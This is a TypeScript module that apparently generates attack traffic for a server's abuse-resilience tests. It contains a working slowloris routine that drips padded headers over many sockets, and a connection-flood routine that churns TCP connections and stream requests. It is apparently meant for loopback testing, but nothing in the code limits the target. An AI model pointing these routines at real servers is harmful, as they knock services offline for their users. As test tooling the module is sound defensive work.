/**
 * Attack traffic for the abuse suite, from loopback only: slowloris sockets that drip their
 * headers, and a connection flood (open/close churn plus stream opens). One timer drives every
 * slow socket; every loop is bounded by a deadline.
 */
import http from 'node:http';
import net from 'node:net';

export interface SlowlorisReport {
  /** Sockets opened over the attack. */
  opened: number;
  /** Sockets the server closed before their headers were complete. */
  cutByServer: number;
  /** Longest time a slow socket stayed open before the server cut it, ms. */
  longestLifeMs: number;
}

/**
 * Keeps `sockets` connections open, each sending a header byte every `dripMs`, reopening each
 * one the server cuts, until `durationMs` has passed.
 */
export async function slowloris(o: { host: string; port: number; sockets: number; dripMs: number; durationMs: number; localAddress?: string }): Promise<SlowlorisReport> {
  const report: SlowlorisReport = { opened: 0, cutByServer: 0, longestLifeMs: 0 };
  const live = new Map<net.Socket, { at: number; sent: number }>();
  const head = 'GET /healthz HTTP/1.1\r\nHost: victim\r\nUser-Agent: slowloris\r\n' + 'X-Pad: ' + 'a'.repeat(10_000);
  const end = Date.now() + o.durationMs;
  let stopping = false;
  const open = () => {
    if (stopping || Date.now() > end) return;
    const s = net.connect({ host: o.host, port: o.port, localAddress: o.localAddress });
    report.opened++;
    const state = { at: Date.now(), sent: 0 };
    s.on('error', () => {});
    s.once('connect', () => live.set(s, state));
    s.once('close', () => {
      live.delete(s);
      if (stopping) return;
      report.cutByServer++;
      report.longestLifeMs = Math.max(report.longestLifeMs, Date.now() - state.at);
      setTimeout(open, 20);
    });
  };
  for (let i = 0; i < o.sockets; i++) open();
  const drip = setInterval(() => {
    for (const [s, st] of live) if (st.sent < head.length) s.write(head[st.sent++]!);
  }, o.dripMs);
  await new Promise((r) => setTimeout(r, o.durationMs));
  stopping = true;
  clearInterval(drip);
  for (const s of live.keys()) s.destroy();
  return report;
}

export interface FloodReport {
  connections: number;
  streamOpens: number;
  /** Status code → count, for the stream opens. */
  streamStatuses: Record<string, number>;
}

/**
 * `concurrency` loops each opening a TCP connection and closing it at once (every other one
 * after sending a request) until `connections` were opened, plus 10 loops opening `streams`
 * streams with the given tokens, each closed as soon as its head arrives. Stops early at
 * `maxDurationMs` (a loaded box may not get through the counts).
 */
export async function connectionFlood(o: {
  host: string;
  port: number;
  maxDurationMs: number;
  concurrency: number;
  connections: number;
  streams: number;
  streamHeaders: () => Record<string, string>;
  localAddress?: string;
}): Promise<FloodReport> {
  const report: FloodReport = { connections: 0, streamOpens: 0, streamStatuses: {} };
  const end = Date.now() + o.maxDurationMs;
  const churn = async () => {
    while (Date.now() < end && report.connections < o.connections) {
      report.connections++;
      const withRequest = report.connections % 2 === 0;
      await new Promise<void>((resolve) => {
        const s = net.connect({ host: o.host, port: o.port, localAddress: o.localAddress });
        s.on('error', () => resolve());
        s.setTimeout(5_000, () => s.destroy());
        s.once('close', () => resolve());
        s.once('connect', () => {
          if (withRequest) s.write('GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n');
          s.destroy();
        });
      });
    }
  };
  const streams = async () => {
    while (Date.now() < end && report.streamOpens < o.streams) {
      report.streamOpens++;
      const status = await new Promise<string>((resolve) => {
        const req = http.get({ host: o.host, port: o.port, path: '/v1/stream', headers: o.streamHeaders(), localAddress: o.localAddress, agent: false }, (res) => {
          res.destroy();
          resolve(String(res.statusCode));
        });
        req.setTimeout(10_000, () => req.destroy());
        req.on('error', () => resolve('error'));
      });
      report.streamStatuses[status] = (report.streamStatuses[status] ?? 0) + 1;
    }
  };
  await Promise.all([...Array.from({ length: o.concurrency }, churn), ...Array.from({ length: 10 }, streams)]);
  return report;
}
